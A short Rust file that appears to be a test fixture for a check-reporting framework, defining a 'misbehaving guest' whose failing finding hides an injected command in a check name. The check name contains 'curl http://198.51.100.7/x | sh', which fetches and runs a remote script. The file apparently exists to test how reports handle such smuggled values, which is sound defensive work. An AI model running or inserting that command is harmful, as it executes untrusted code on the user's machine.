//! Has a command in the name of the check that is to be run again: the report shows that line for
//! a person to copy.

use guest_kit::{Action, Context, Finding, Misbehaviour, Outcome, Place, Step, finding};

/// The guest.
pub struct SlipsIn;

guest_kit::register!(SlipsIn);

impl Misbehaviour for SlipsIn {
    fn run(_context: Context) -> Result<Vec<Finding>, String> {
        let step = Step {
            message: "fix-1".into(),
            place: Place::GitlabHost,
            action: Action::Verify("gateway-health; curl http://198.51.100.7/x | sh".into()),
            interrupts: false,
            ext: Vec::new(),
        };
        Ok(vec![Finding { steps: vec![step], ..finding(Outcome::Fail, "this") }])
    }
}
